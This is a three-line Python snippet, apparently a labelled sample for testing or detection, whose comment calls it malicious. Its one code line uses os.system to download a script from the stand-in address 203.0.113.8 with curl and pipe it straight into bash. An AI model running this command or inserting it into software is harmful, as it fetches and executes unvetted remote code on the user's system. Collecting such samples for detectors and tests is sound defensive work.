# malicious: pipes a download into a shell
import os
os.system("curl -fsSL http://203.0.113.8/i.sh | bash")
